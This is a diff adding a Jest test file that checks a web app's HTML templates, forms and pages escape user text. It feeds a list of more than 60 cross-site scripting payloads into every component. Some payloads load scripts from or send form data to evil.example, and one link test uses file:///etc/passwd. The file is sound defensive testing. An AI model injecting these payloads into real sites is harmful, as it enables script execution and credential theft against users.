@@ -1,0 +1,286 @@
+/** Whatever somebody writes is text on our pages: it never becomes a tag, an attribute, a script or a link of its own. */
+import { readdirSync, readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { describe, expect, test } from '@jest/globals';
+import { Customer } from '../../src/customers/customer.ts';
+import { button } from '../../src/html/button.ts';
+import { errorPage } from '../../src/html/error-page.ts';
+import { errorSummary, form } from '../../src/html/form.ts';
+import { attributes, type Html, html } from '../../src/html/html.ts';
+import { layout } from '../../src/html/layout.ts';
+import type { PageContext, View } from '../../src/html/page.ts';
+import { details, emptyState, pager, table } from '../../src/html/table.ts';
+import { anyText, inLanguage, outsideLink } from '../../src/html/text.ts';
+import { homePage, loginPage } from '../../src/login/login-views.ts';
+import { Session } from '../../src/login/session.ts';
+import { sessionsPage } from '../../src/login/session-views.ts';
+import { skeletonOf, tokensOf, wordsOf } from '../setup/html-tokens.ts';
+
+const payloads = [
+  '<script>alert(1)</script>',
+  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<img src=x onerror=alert(1)>',
+  '<img src="x" onerror="alert(1)">',
+  '<svg onload=alert(1)>',
+  '<svg><script>alert&#40;1&#41;</script>',
+  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
+  '<body onload=alert(1)>',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<iframe srcdoc="<script>alert(1)</script>">',
+  '<object data="data:text/html,<script>alert(1)</script>">',
+  '<embed src="javascript:alert(1)">',
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href=javascript:alert(1)>x',
+  '<form action="https://evil.example/"><input name=password>',
+  '<input autofocus onfocus=alert(1)>',
+  '<button formaction=javascript:alert(1)>x</button>',
+  '<base href="https://evil.example/">',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+  '<link rel="stylesheet" href="https://evil.example/x.css">',
+  '<style>*{display:none}</style>',
+  '<style>@import "https://evil.example/x.css";</style>',
+  '<div style="position:fixed;inset:0">',
+  '<template><script>alert(1)</script></template>',
+  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
+  '<details open ontoggle=alert(1)>',
+  '<video><source onerror=alert(1)></video>',
+  '<marquee onstart=alert(1)>',
+  '<textarea autofocus onfocus=alert(1)>',
+  '</textarea><script>alert(1)</script>',
+  '</title><script>alert(1)</script>',
+  '</style><script>alert(1)</script>',
+  '</script><script>alert(1)</script>',
+  '</select><script>alert(1)</script>',
+  '</option></select><img src=x onerror=alert(1)>',
+  '</p></main></body></html><script>alert(1)</script>',
+  '<!-- --><script>alert(1)</script>',
+  '--><script>alert(1)</script><!--',
+  '<![CDATA[<script>alert(1)</script>]]>',
+  '<?xml version="1.0"?><script>alert(1)</script>',
+  '" onmouseover="alert(1)',
+  '" autofocus onfocus="alert(1)',
+  '" style="background:url(https://evil.example)',
+  '"><script>alert(1)</script>',
+  '"/><img src=x onerror=alert(1)>',
+  "' onmouseover='alert(1)",
+  "'><script>alert(1)</script>",
+  '` onmouseover=`alert(1)',
+  'x onmouseover=alert(1) y',
+  '\\"><script>alert(1)</script>',
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+  '&#60;script&#62;alert(1)&#60;/script&#62;',
+  '&quot; onmouseover=&quot;alert(1)',
+  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
+  '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
+  '{{constructor.constructor("alert(1)")()}}',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: that is the payload
+  '${alert(1)}',
+  '\u202e<script>alert(1)</script>\u202c',
+  '\n<script>\nalert(1)\n</script>\n',
+  '%3Cscript%3Ealert(1)%3C%2Fscript%3E',
+  '<sCrIpT/xss>alert(1)</sCrIpT\t\n bar>',
+  '<a\u00a0onmouseover=alert(1)>',
+];
+
+const context = (text: string): PageContext => ({
+  prefix: '',
+  path: `/${text}`,
+  person: { email: text, name: text, isAdmin: true },
+  csrfToken: () => text,
+});
+const drawn = (text: string, view: View) => layout(context(text), view(context(text)), text);
+
+const field = (text: string) => ({ name: 'name', label: text, hint: text });
+const session = (text: string) =>
+  Session.fromDatabaseJson({
+    id: 1,
+    customer_id: 1,
+    user_agent: text,
+    network: text,
+    created_at: new Date(0),
+    last_used_at: new Date(0),
+  });
+
+/** Every component, with the text wherever one can be. */
+const components: Record<string, (text: string) => Html | string> = {
+  'a template': (text) => html`<p title="${text}">${text}${[text, [text]]}</p>`,
+  attributes: (text) => html`<p${attributes({ title: text, 'data-x': text })}></p>`,
+  'a text field': (text) =>
+    form({
+      action: text,
+      csrfToken: text,
+      group: 'place',
+      fields: [{ kind: 'text', ...field(text), autocomplete: text, lang: text, required: true }],
+      values: { name: text },
+      errors: { name: [text, text], base: [text] },
+      hidden: { tag_id: text },
+      submit: text,
+      cancel: text,
+    }),
+  'an e-mail field': (text) =>
+    form({
+      action: '/',
+      csrfToken: '',
+      fields: [{ kind: 'email', ...field(text) }],
+      values: { name: text },
+      submit: '',
+    }),
+  'a password field': (text) =>
+    form({
+      action: '/',
+      csrfToken: '',
+      fields: [{ kind: 'password', ...field(text) }],
+      values: { name: text },
+      submit: '',
+    }),
+  'a number field': (text) =>
+    form({
+      action: '/',
+      csrfToken: '',
+      fields: [{ kind: 'number', ...field(text) }],
+      values: { name: text },
+      submit: '',
+    }),
+  'a text area': (text) =>
+    form({
+      action: '/',
+      csrfToken: '',
+      fields: [{ kind: 'textarea', ...field(text), lang: text }],
+      values: { name: text },
+      submit: '',
+    }),
+  'a choice': (text) =>
+    form({
+      action: '/',
+      csrfToken: '',
+      fields: [{ kind: 'select', ...field(text), choices: [{ value: text, label: text }], none: text }],
+      values: { name: text },
+      submit: '',
+    }),
+  'a tick box': (text) =>
+    form({
+      action: '/',
+      csrfToken: '',
+      fields: [{ kind: 'checkbox', ...field(text) }],
+      values: { name: text },
+      submit: '',
+    }),
+  'an error of an unknown field': (text) =>
+    errorSummary({ errors: { [text]: [text], constructor: [text] }, fields: [] }),
+  'a button': (text) => button({ action: text, csrfToken: text, label: text, context: text, hidden: { tag_id: text } }),
+  'a table': (text) =>
+    table({
+      caption: text,
+      columns: [
+        { heading: text, cell: (row: string) => row },
+        { heading: text, cell: () => text },
+      ],
+      rows: [text, text],
+      empty: emptyState(text),
+    }),
+  'an empty table': (text) =>
+    table({ caption: text, columns: [], rows: [], empty: emptyState(text, { href: text, label: text }) }),
+  'a pager': (text) => pager({ previous: text, next: text }),
+  details: (text) => details([[text, text]]),
+  'a text in a language': (text) => inLanguage('ar', text),
+  'a text in any language': (text) => anyText(text),
+  'an error page': (text) => drawn(text, errorPage(500, text, text)),
+  'a page around it': (text) =>
+    drawn(text, () => ({ title: text, heading: html`<b>${text}</b>`, body: html`${text}` })),
+  'the start page': (text) => drawn(text, homePage),
+  'the sign-in page': (text) =>
+    drawn(
+      text,
+      loginPage({
+        networks: [text],
+        returnTo: text,
+        email: text,
+        refusal: { reason: undefined, errors: { email: [text] } },
+      }),
+    ),
+  'the sessions': (text) =>
+    drawn(
+      text,
+      sessionsPage([session(text), session(text)], { id: 1, customer: Customer.fromDatabaseJson({ id: 1 }) }),
+    ),
+};
+
+test('there are 60 payloads or more, each once', () => {
+  expect(new Set(payloads).size).toBe(payloads.length);
+  expect(payloads.length).toBeGreaterThanOrEqual(60);
+});
+
+describe.each(Object.entries(components))('%s', (_, component) => {
+  const plain = skeletonOf(`${component('plain')}`);
+
+  test('keeps its tags and attributes, and shows the text as it is', () => {
+    for (const payload of payloads) {
+      const page = `${component(payload)}`;
+      expect(skeletonOf(page)).toEqual(plain);
+      expect(
+        wordsOf(page).some((word) => word.includes(payload.slice(0, 60)) || word.includes(encodeURIComponent(payload))),
+      ).toBe(true);
+    }
+  });
+});
+
+describe('a template', () => {
+  test('takes no object for a piece of a page, whatever that says of itself', () => {
+    const forged = JSON.parse('{"isEscaped":true,"toString":"<script>"}');
+    for (const value of [forged, { isEscaped: true }, Object.create(null), [forged], [[forged]], new Date()]) {
+      expect(() => html`<p>${value as never}</p>`).toThrow(TypeError);
+    }
+  });
+
+  test('leaves nothing of what is absent or false, and keeps 0', () => {
+    expect(`${html`<p>${undefined}${null}${false}${0}${''}</p>`}`).toBe('<p>0</p>');
+  });
+
+  test('puts pieces into each other without escaping twice', () => {
+    expect(`${html`<ul>${['<a>', '&amp;'].map((each) => html`<li>${each}</li>`)}</ul>`}`).toBe(
+      '<ul><li>&lt;a&gt;</li><li>&amp;amp;</li></ul>',
+    );
+  });
+});
+
+describe('a link to an address that somebody wrote', () => {
+  test.each([
+    'javascript:alert(1)',
+    'JAVASCRIPT:alert(1)',
+    ' javascript:alert(1)',
+    'java\nscript:alert(1)',
+    'javascript://example.com/%0aalert(1)',
+    'data:text/html,<script>alert(1)</script>',
+    'data://x/,<script>alert(1)</script>',
+    'vbscript:msgbox(1)',
+    'file:///etc/passwd',
+    'blob:https://x/y',
+    '',
+    'https://',
+    ...payloads,
+  ])('%j leads nowhere but into the web', (address) => {
+    const [first] = tokensOf(`${outsideLink(address)}`);
+    if (first?.kind !== 'tag') throw new Error('It begins with a tag');
+    const { href } = first.attributes;
+    if (href !== undefined) expect(href).toMatch(/^https?:\/\/[^"'<>\s]+$/);
+    expect(Object.keys(first.attributes)).toEqual(href === undefined ? [] : ['href', 'rel']);
+  });
+
+  test.each([
+    ['https://museum.example/a?b=c&d=e#f', 'https://museum.example/a?b=c&d=e#f'],
+    ['http://museum.example', 'http://museum.example/'],
+    ['museum.example/a', 'https://museum.example/a'],
+    ['museum.example:8080/a', 'https://museum.example:8080/a'],
+  ])('%s leads to %s', (address, href) => {
+    expect(tokensOf(`${outsideLink(address)}`)[0]).toMatchObject({ name: 'a', attributes: { href } });
+  });
+});
+
+test('every attribute in a template is written in double quotes', () => {
+  const sources = readdirSync('src', { recursive: true, withFileTypes: true })
+    .map((entry) => join(entry.parentPath, entry.name))
+    .filter((path) => /^src\/html\/.*\.ts$|views\.ts$/.test(path));
+  expect(sources.length).toBeGreaterThan(10);
+  for (const source of sources) expect(readFileSync(source, 'utf8')).not.toMatch(/\s[a-z-]+=(\$\{|'\$\{)/);
+});
